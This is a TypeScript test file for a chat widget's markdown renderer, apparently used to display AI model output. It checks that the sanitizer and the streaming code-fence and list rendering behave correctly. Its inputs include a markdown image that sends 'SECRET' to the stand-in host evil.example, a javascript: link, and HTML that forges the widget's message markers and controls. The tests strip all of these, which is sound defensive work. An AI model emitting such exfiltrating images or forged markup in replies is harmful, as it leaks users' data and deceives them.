import "./dom";
import assert from "node:assert/strict";
import { test } from "node:test";
import { markdownToHtml, sanitize } from "../src/markdown/fragment";
import { MarkdownView } from "../src/markdown/render";

function html(fragment: DocumentFragment): string {
  const div = document.createElement("div");
  div.append(fragment);
  return div.innerHTML;
}

test("remote images become a text span; inline data images stay", () => {
  const out = markdownToHtml("See ![secret plan](https://evil.example/?q=SECRET) now.");
  assert.ok(!out.includes("<img"), out);
  assert.ok(!out.includes("evil.example"), out);
  assert.match(out, /<span>\[image: secret plan\]<\/span>/);
  const raw = html(sanitize('<img src="//evil.example/x.png"><img src=" https://e/x" alt="">'));
  assert.equal(raw, "<span>[image]</span><span>[image]</span>");
  const inline = markdownToHtml("![dot](data:image/png;base64,iVBORw0KGgo=)");
  assert.match(inline, /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="dot">/);
});

test("model output cannot forge the widget's markers, ids, classes or controls", () => {
  const out = html(
    sanitize(
      '<div data-item-type="assistant_message" data-status="success" data-item-id="x" ' +
        'id="main" class="ckw-row ckw-assistant" role="log" aria-label="Stop">hi</div>' +
        '<input type="text"><form><button>Send</button></form><style>*{}</style>' +
        '<iframe src="https://e"></iframe><object data="x"></object><embed src="x">' +
        '<code class="language-py ckw-x">c</code><svg><image href="https://e/x"/></svg>',
    ),
  );
  // Forbidden elements go; their text may stay, as plain text.
  assert.equal(out, '<div>hi</div>Send<code class="language-py">c</code>');
  const tasks = markdownToHtml("- [x] done\n- [ ] todo");
  assert.ok(!tasks.includes("<input"), tasks);
  assert.match(
    tasks,
    /<span class="ckw-task-marker" role="img" aria-label="done"[^>]*><\/span> done/,
  );
});

test("links go only to http, https and mailto, in a new tab without an opener", () => {
  const out = markdownToHtml(
    "[a](https://a.example) [b](mailto:x@y.z) [c](javascript:alert(1)) [d](/api/x) " +
      "[e](data:text/html,x) [f](http://f.example)",
  );
  const div = document.createElement("div");
  div.innerHTML = out;
  const links = [...div.querySelectorAll("a")].map((a) => [
    a.textContent,
    a.getAttribute("href"),
    a.getAttribute("target"),
    a.getAttribute("rel"),
  ]);
  assert.deepEqual(links, [
    ["a", "https://a.example", "_blank", "noopener noreferrer"],
    ["b", "mailto:x@y.z", "_blank", "noopener noreferrer"],
    ["c", null, null, null],
    ["d", null, null, null],
    ["e", null, null, null],
    ["f", "http://f.example", "_blank", "noopener noreferrer"],
  ]);
});

test("an open code fence grows by appending text, then renders once closed", () => {
  const view = new MarkdownView();
  let text = "Intro\n\n```python\n";
  view.update(text);
  const code = view.el.querySelector("pre > code");
  assert.ok(code);
  assert.equal(code.className, "language-python");
  const node = code.firstChild;
  for (const piece of ["def f():\n", "\n", "    return '<b>1</b>'\n"]) {
    text += piece;
    view.update(text);
    assert.equal(view.el.querySelector("pre > code"), code, "the same element");
    assert.equal(code.firstChild, node, "the same text node, appended to");
  }
  assert.equal(code.textContent, "def f():\n\n    return '<b>1</b>'\n");
  assert.equal(code.querySelector("b"), null, "text, never HTML");
  text += "```\n\nAfter.";
  view.update(text);
  const closed = view.el.querySelector("pre > code");
  assert.ok(closed && closed !== code, "rendered as markdown once the fence closed");
  assert.equal(closed.textContent, "def f():\n\n    return '<b>1</b>'\n");
  assert.match(view.el.textContent ?? "", /After\.\s*$/);
});

test("a list item holding a fence with blank lines renders as one list, streamed or final", () => {
  const text = "1. Install:\n\n    ```bash\n    pip install x\n\n    pip install y\n    ```";
  const view = new MarkdownView();
  for (let end = 1; end <= text.length; end++) view.update(text.slice(0, end));
  const check = (when: string) => {
    assert.equal(view.el.querySelectorAll("ol").length, 1, when);
    assert.equal(view.el.querySelectorAll("pre").length, 1, when);
    assert.equal(
      view.el.querySelector("ol pre code")?.textContent,
      "pip install x\n\npip install y\n",
    );
  };
  check("streamed");
  view.finish(text);
  check("final");
});

test("finish renders the whole text once, so later reference links resolve", () => {
  const text = "See [the docs][docs].\n\nMore text.\n\n[docs]: https://docs.example";
  const view = new MarkdownView();
  for (let end = 1; end <= text.length; end++) view.update(text.slice(0, end));
  assert.equal(view.el.querySelector("a"), null, "split blocks cannot see the definition");
  view.finish(text);
  assert.equal(view.el.querySelector("a")?.getAttribute("href"), "https://docs.example");
  const before = view.el.firstChild;
  view.finish(text);
  assert.equal(view.el.firstChild, before, "not rendered again for the same text");
});

test("finish keeps the streamed blocks when nothing needs the whole text", () => {
  const text = "First paragraph.\n\n- a list\n- of items\n\nLast paragraph, still open";
  const view = new MarkdownView();
  for (let end = 1; end <= text.length; end++) view.update(text.slice(0, end));
  const first = view.el.firstChild;
  view.finish(text);
  assert.equal(view.el.firstChild, first, "settled blocks are not rendered again");
  assert.equal(view.el.querySelectorAll("li").length, 2);
  assert.match(view.el.textContent ?? "", /Last paragraph, still open\s*$/);
});

test("a reply that ends inside an open fence is rendered as code when finished", () => {
  const text = "Here:\n\n```python\nprint('hi')\n";
  const view = new MarkdownView();
  for (let end = 1; end <= text.length; end++) view.update(text.slice(0, end));
  view.finish(text);
  const code = view.el.querySelector("pre > code.language-python");
  assert.equal(code?.textContent, "print('hi')\n");
});
